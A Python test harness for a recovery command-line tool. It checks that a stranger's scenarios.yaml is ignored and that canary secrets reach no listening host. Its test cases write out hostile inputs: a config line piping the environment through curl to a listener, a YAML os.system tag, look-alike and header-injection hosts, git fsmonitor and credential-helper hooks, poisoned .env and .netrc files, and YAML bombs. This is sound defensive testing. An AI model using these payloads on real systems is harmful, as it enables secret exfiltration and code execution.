"""A stranger's `scenarios.yaml` where a command is given is not used: its hosts hear nothing, least of all secrets.

The truth is what listening sockets heard. Hosts beyond this machine are seen, too: the environment's proxy is one of
the listeners. The operator's own file must be heard: a harness that is deaf would be found out.
"""

from __future__ import annotations

import os
import tempfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from .canaries import Canaries
from .listeners import Listeners, listening
from .product import Product, environment
from .scale import drawn
from .tally import Tally

SOON = 60.0
"""Seconds, on a machine that has other things to do."""
_PACKAGED = (Path(__file__).parents[2] / "scenarios.yaml").read_text()
_BAD, _FAILED = 2, 3
_HEROKU, _MEDIA, _DNS = "heroku: {app: usc-pis", "{cloud: usc-pis", "dns: {adapter: manual"
_TARGET = "  production:\n    heroku: {app: usc-pis}\n"
_RECIPIENT = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kudkcsavssgtzql"
_OWN_HOSTS = ("own", "proxy")
"""Listeners that the operator's own file leads to: its platform, and the way to the other providers."""
SECRETS = {
    "HEROKU_API_KEY": "HRKU-canary-of-the-platform",
    "USCDR_CHECK_TOKEN": "canary-of-the-check-account",
    "USCDR_CLOUDINARY_CLOUD": "usc-pis",
    "USCDR_CLOUDINARY_KEY": "443322115566778",
    "USCDR_CLOUDINARY_SECRET": "canary-of-the-media-cloud",
    "USCDR_DNS_KEY": "Y2FuYXJ5LW9mLXRoZS16b25lLWtleQ==",
    "USCDR_CLOUDFLARE_TOKEN": "canary-of-the-dns-provider",
    "AWS_ACCESS_KEY_ID": "AKIACANARYOFBUCKET",
    "AWS_SECRET_ACCESS_KEY": "canary/of/the/bucket/key",
    "AWS_REGION": "eu-central-1",
    "GITHUB_TOKEN": "ghp_canaryOfTheRepository",
    "USCDR_SCRATCH": "postgresql://canary:canary-of-the-scratch@127.0.0.1:9/postgres",
}
COMMANDS: tuple[tuple[str, ...], ...] = (
    ("recover", "db", "--dry-run"),
    ("recover", "app", "--dry-run"),
    ("recover", "media", "--dry-run"),
    ("recover", "infra", "--dry-run", "--app", "usc-pis-new"),
    ("recover", "backups", "--confirm", "x"),
    ("dns", "rollback", "--confirm", "x"),
    ("verify", "all"),
    ("verify", "all", "--allow-writes"),
    ("backup", "list"),
    ("backup", "status"),
    ("backup", "pull", "--backup", "b001", "--recipient", _RECIPIENT),
    ("kit", "build", "--recipient", _RECIPIENT),
    ("kit", "list"),
    ("kit", "check", "newest", "--online"),
    ("runbook",),
)


@dataclass(frozen=True)
class Way:
    """One change of the packaged file; `refused`: the key that is named. `anywhere`: no file may say it."""

    name: str
    old: str
    new: str
    refused: str
    anywhere: bool = False


def ways(at: Listeners) -> list[Way]:
    """All of them, with their hosts."""

    def url(name: str, scheme: str = "http") -> str:
        return f"{scheme}://{at.place(name)}"

    def heroku(name: str, text: str, key: str = "heroku.api_url", *, anywhere: bool = False) -> Way:
        return Way(name, _HEROKU, f"{_HEROKU}, {text}", key, anywhere)

    def beside(name: str, text: str, key: str) -> Way:
        return Way(name, _DNS, f"{text}\n    {_DNS}", key)

    host, _, port = at.place("loopback").rpartition(":")
    control, twice = "control character", "used twice"
    return [
        heroku("api host", f"api_url: {url('api host')}"),
        heroku("api host, https", f"api_url: {url('api https', 'https')}"),
        heroku("a subdomain that looks alike", "api_url: https://api.heroku.com.evil.example"),
        heroku("user information", f'api_url: "https://api.heroku.com@{at.place("userinfo")}"', "contain a user name",
               anywhere=True),
        heroku("another port", "api_url: https://api.heroku.com:8443"),
        heroku("plain http", "api_url: http://api.heroku.com"),
        heroku("localhost", f"api_url: http://localhost:{port}"),
        heroku("IPv6 loopback", f'api_url: "http://[::1]:{port}"'),
        heroku("decimal address", f"api_url: http://2130706433:{port}"),
        heroku("letters that look alike", 'api_url: "https://\u0430pi.heroku.com"', "letters other than a-z",
               anywhere=True),
        heroku("line feeds in the host", r'api_url: "https://api.heroku.com\r\nHost: evil"', control, anywhere=True),
        heroku("a key twice", f"api_url: https://api.heroku.com, api_url: {url('twice')}", twice, anywhere=True),
        heroku("which variable is the token", "token_env: AWS_SECRET_ACCESS_KEY", "is not known", anywhere=True),
        heroku("data host", f"data_url: {url('data host')}", "heroku.data_url"),
        heroku("status page", f"status_url: {url('status page')}", "heroku.status_url"),
        beside("certificate authority", "ca_file: ./evil.pem", "production.ca_file"),
        beside("website", f"web: {url('website')}", "production.web"),
        beside("mail account", f"mail: {{token_url: {url('mail')}/token}}", "mail.token_url"),
        beside("server of certificates", f"tls_server: \"{at.place('tls')}\"", "production.tls_server"),
        Way("media host", _MEDIA, f"{_MEDIA}, api_url: {url('media host')}", "cloudinary.api_url"),
        Way("media delivery", _MEDIA, f"{_MEDIA}, delivery_url: {url('delivery')}", "cloudinary.delivery_url"),
        Way("media status", _MEDIA, f"{_MEDIA}, status_url: {url('media status')}", "cloudinary.status_url"),
        Way("DNS API", _DNS, f"dns: {{adapter: cloudflare, api_url: {url('dns api')}", "dns.api_url"),
        Way("DNS primary", _DNS, f"dns: {{adapter: rfc2136, key_name: k, server: {host}, port: {port}",
            "dns.server"),
        Way("name servers", _DNS, f"{_DNS}, name_servers: [\"{at.place('name server')}\"]", "dns.name_servers"),
        Way("an address as a hostname", "zone: usc-pis.example}", "zone: 0.0.1, hostnames: [127.0.0.1]}",
            "is an IP address", anywhere=True),
        Way("repository", "app:\n", f"app:\n  source: {{git: {url('git')}/x.git}}\n", "app.source.git"),
        Way("repository over ssh", "app:\n", f"app:\n  source: {{git: \"ssh://git@{host}:{port}/x\"}}\n",
            "app.source.git"),
        Way("the repository's status page", "app:\n",
            f"app:\n  source: {{git: /nowhere, status_url: {url('git status')}}}\n", "app.source.status_url"),
        Way("command in the dyno", "manage: python backend/manage.py",
            f"manage: \"env | curl -d @- {url('dyno')}; python manage.py\"", "app.manage"),
        Way("bucket of kits", "version: 1\n", "version: 1\nkit: {to: s3://evil-bucket}\n", "kit.to"),
        Way("bucket of copies", "version: 1\n", "version: 1\nvault: {to: s3://evil-bucket}\n", "vault.to"),
        Way("who opens kits", "version: 1\n", f"version: 1\nkit: {{recipients: [{_RECIPIENT}]}}\n", "kit.recipients"),
        Way("who opens copies", "version: 1\n", f"version: 1\nvault: {{recipients: [{_RECIPIENT}]}}\n",
            "vault.recipients"),
        Way("buildpack", "[heroku/nodejs, heroku/python]", f"[{url('buildpack')}/x.tgz]", "recovery.buildpacks"),
        Way("which variable is sent", "    kind: mail\n", "    kind: mail\n    client_secret: SECRET_KEY\n",
            "checks.mail-account.client_secret"),
        Way("a path that is an address", "path: /api/auth/profile/me/", f"path: {url('path')}/x", "the required form",
            anywhere=True),
        Way("a followed address", "follow: /api/medical-certificates/certificates/{id}/render/",
            f"follow: \"{url('follow')}/{{id}}\"", "the required form", anywhere=True),
        Way("hosts of certificates", "{kind: tls, days: 14}", "{kind: tls, hostnames: [evil.example]}",
            "checks.certificate.hostnames"),
        Way("a target called sandbox", _TARGET, _TARGET.replace("production", "sandbox"), "is built in", anywhere=True),
        Way("another file", "version: 1\n", "version: 1\ninclude: /tmp/evil.yaml\n", "is not known", anywhere=True),
        Way("a merged part", _TARGET, f"  base: &evil\n    heroku: {{app: other}}\n    web: {url('merged')}\n"
            "  production:\n    <<: *evil\n    heroku: {app: usc-pis}\n", "production.web"),
        Way("a tag", "version: 1\n", "version: !!python/object/apply:os.system ['touch ran']\n", "", anywhere=True),
    ]  # fmt: skip


@dataclass(frozen=True)
class Scene:
    """The program, those who listen, and what they must not hear."""

    product: Product
    root: Path
    at: Listeners
    canaries: Canaries
    tally: Tally

    def unheard(self, name: str) -> list[str]:
        """Complaints about whoever heard anything since the last time."""
        heard = self.at.take()
        self.tally.leak(name, [f"{secret} at {one.name}" for one in heard for secret in self.canaries.found(one.data)])
        return [f"{one.name} was reached, {one.times} times" for one in heard]


def run(tally: Tally, *, count: int, seed: int) -> None:
    """Each way with some commands in the current directory, named by `--config`, and what else lies in a directory."""
    with tempfile.TemporaryDirectory(prefix="uscdr-campaign-") as place, listening() as at:
        root = Path(place)
        canaries = Canaries({name: value for name, value in SECRETS.items() if name != "USCDR_CLOUDINARY_CLOUD"})
        scene = Scene(Product(root / "state", _environment(at)), root, at, canaries, tally)
        found = ways(at)
        _heard(scene)
        for case in drawn(_surroundings(root), max(3, count // 10), seed):
            if tally.goes_on():
                _surrounded(scene, case)
        for way in drawn([one for one in found if not one.anywhere], max(2, count // 10), seed):
            if tally.goes_on():
                _named(scene, way)
        pairs = [(way, command) for way in found for command in COMMANDS]
        for way, command in drawn(pairs, count, seed):
            if tally.goes_on():
                _lies_there(scene, way, command)


def _environment(at: Listeners) -> dict[str, str]:
    """What an operator has; whatever would leave this machine comes to a listener, too."""
    proxy = f"http://{at.place('proxy')}"
    outside = dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"), proxy)
    return environment({**SECRETS, **outside}, without=("NO_PROXY", "no_proxy", "USCDR_SHARED", "USCDR_AGE_IDENTITY"))


def _written(directory: Path, way: Way) -> Path:
    if way.old not in _PACKAGED:
        raise RuntimeError(f"{way.old} is not in scenarios.yaml any more")
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "scenarios.yaml"
    path.write_text(_PACKAGED.replace(way.old, way.new, 1))
    return path


def _lies_there(scene: Scene, way: Way, command: Sequence[str]) -> None:
    """None of its hosts hears anything, and one line says that it is not used; the operator's own file is."""
    path = _written(scene.root / "here", way)
    scene.at.take()
    own = {"USCDR_CONFIG": str(_own(scene)), "USCDR_SANDBOX_STEADY": "1"}
    ended = scene.product.run(*command, limit=SOON, cwd=path.parent, env=own)
    heard = [one for one in scene.at.take() if one.name not in _OWN_HOSTS or b"evil" in one.data]
    wrong = [f"{one.name} was reached" for one in heard]
    if "uscdr --config ./scenarios.yaml" not in ended.err:
        wrong.append(f"that it is not used is not told: {ended.last()}")
    if (path.parent / "ran").exists():
        wrong.append("a program ran")
    scene.tally.case(f"{way.name}: {' '.join(command)}", wrong=wrong)
    scene.tally.leak(way.name, scene.canaries.found(ended.text.encode()))


def _own(scene: Scene) -> Path:
    """The operator's own file: its host is one of the listeners."""
    text = f"{_HEROKU}, api_url: http://{scene.at.place('own')}"
    return _written(scene.root / "own", Way("own", _HEROKU, text, "heroku.api_url"))


def _heard(scene: Scene) -> None:
    """The operator's own file decides, and its host hears the token: whoever listens is not deaf."""
    path = _own(scene)
    scene.at.take()
    ended = scene.product.run("--config", str(path), "backup", "list", limit=SOON, cwd=scene.root)
    heard = {one.name: scene.canaries.found(one.data) for one in scene.at.take()}
    wrong = ended.complaints(_FAILED)
    if heard != {"own": ["HEROKU_API_KEY"]}:
        wrong.append(f"heard was {heard}")
    scene.tally.case("the operator's own file", wrong=wrong)


def _named(scene: Scene, way: Way) -> None:
    """The first line says so; what is open to others is refused, and nothing is heard then."""
    path = _written(scene.root / "named", way)
    path.chmod(0o644)
    ended = scene.product.run("--config", str(path), "runbook", "--json", limit=SOON, cwd=scene.root)
    wrong = ended.complaints(0)
    first = ended.err.splitlines()[0] if ended.err else ""
    if not (first.startswith(f"Configuration: {path} (named by --config) decides") and way.refused in first):
        wrong.append(f"the first line does not name it: {first[:200]}")
    if not all(line.startswith("{") for line in ended.out.splitlines()):
        wrong.append("JSON is not one object a line")
    path.chmod(0o666)
    scene.at.take()
    ended = scene.product.run("--config", str(path), "recover", "db", "--dry-run", limit=SOON, cwd=scene.root)
    wrong += ended.complaints(_BAD) + scene.unheard(way.name)
    if f"chmod go-w {path}" not in ended.err:
        wrong.append(f"others may write it, and that is not said: {ended.last()}")
    scene.tally.case(f"{way.name}, named", wrong=wrong)


@dataclass(frozen=True)
class Surrounding:
    """A directory with a trap, and what a command there must end with."""

    name: str
    directory: Path
    arguments: tuple[str, ...]
    codes: tuple[int, ...]
    says: str = ""
    env: dict[str, str] = field(default_factory=dict)


def _surroundings(root: Path) -> Iterator[Surrounding]:
    """What else a directory may hold."""
    for name, make in _ODD.items():
        directory = root / f"odd-{name.replace(' ', '-')}"
        directory.mkdir(exist_ok=True)
        make(directory / "scenarios.yaml")
        yield Surrounding(name, directory, ("runbook",), (0,), "uscdr --config ./scenarios.yaml")
    trapped = root / "trapped"
    _trap(trapped)
    for path in ("", ":", ".", f":{os.environ['PATH']}", f".:{os.environ['PATH']}", f"{os.environ['PATH']}:"):
        for arguments in (("backup", "list"), ("recover", "db", "--dry-run"), ("verify", "all")):
            # without a token the platform's own client is looked for
            yield Surrounding(
                f"programs there, PATH {path[:2]!r}: {' '.join(arguments)}", trapped, arguments, (_BAD,),
                "uscdr found no Heroku token", {"PATH": path, "HEROKU_API_KEY": ""},
            )  # fmt: skip


def _trap(directory: Path) -> None:
    """Programs, modules, settings and a repository that leave a mark when they are obeyed."""
    directory.mkdir(exist_ok=True)
    mark = f"#!/bin/sh\ntouch {directory}/ran\n"
    for name in ("git", "pg_restore", "postgres", "initdb", "psql", "heroku", "age", "ssh", "curl", "uname"):
        (directory / name).write_text(mark)
        (directory / name).chmod(0o755)
    for name in ("json", "ssl", "httpx", "pyrage", "psycopg", "typer", "uscdr_plugin", "sitecustomize"):
        (directory / f"{name}.py").write_text(f"open({str(directory / 'ran')!r}, 'w')\n")
    for name, text in {
        ".env": "HEROKU_API_KEY=evil\nUSCDR_CONFIG=/evil.yaml\n",
        ".netrc": "machine api.heroku.com login x password evil\n",
        "pg_service.conf": "[evil]\nhost=127.0.0.20\n",
        ".pgpass": "*:*:*:*:evil\n",
    }.items():
        (directory / name).write_text(text)
    (directory / ".git").mkdir(exist_ok=True)
    (directory / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (directory / ".git" / "config").write_text(
        f"[core]\n\tfsmonitor = {directory}/git\n\tsshCommand = {directory}/ssh\n"
        f"[credential]\n\thelper = {directory}/git\n"
    )


def _endless(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _socket(path: Path) -> None:
    import socket

    with socket.socket(socket.AF_UNIX) as one, tempfile.TemporaryDirectory() as short:
        one.bind(f"{short}/s")
        os.rename(f"{short}/s", path)  # noqa: PTH104 - a socket's own name is short


_ODD: dict[str, Callable[[Path], object]] = {
    "a pipe": os.mkfifo,
    "a directory": Path.mkdir,
    "an endless device": _endless,
    "a socket": _socket,
    "a loop of links": lambda path: path.symlink_to(path),
    "a link to nothing": lambda path: path.symlink_to("nowhere"),
    "60,000 keys": lambda path: path.write_text("version: 1\n" + "".join(f"k{n}: {n}\n" for n in range(60_000))),
    "30,000 keys": lambda path: path.write_text("version: 1\n" + "".join(f"k{n}: {n}\n" for n in range(30_000))),
    "deep nesting": lambda path: path.write_text("version: " + "[" * 20_000),
    "aliases of aliases": lambda path: path.write_text(
        "a: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1]\n"
        + "".join(f"b{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    ),
    "merges of merges": lambda path: path.write_text(
        "k0: &a0 {" + ", ".join(f"x{n}: 1" for n in range(3000)) + "}\n"
        + "".join(f"k{n}: {{<<: [*a0, *a0, *a0]}}\n" for n in range(1, 1000))
    ),
    "1 GB of nothing": lambda path: os.truncate(_touched(path), 1 << 30),
    "a long tag": lambda path: path.write_text("a: !" + "x" * 390_000 + " 1"),
}  # fmt: skip


def _touched(path: Path) -> Path:
    path.touch()
    return path


def _surrounded(scene: Scene, case: Surrounding) -> None:
    scene.at.take()
    ended = scene.product.run(*case.arguments, env=case.env, limit=SOON, cwd=case.directory)
    wrong = ended.complaints(*case.codes) + scene.unheard(case.name)
    if case.says not in ended.err:
        wrong.append(f"“{case.says}” is not named: {ended.last()}")
    if (case.directory / "ran").exists():
        wrong.append("something that lies there was run")
        (case.directory / "ran").unlink()
    scene.tally.case(case.name, wrong=wrong)
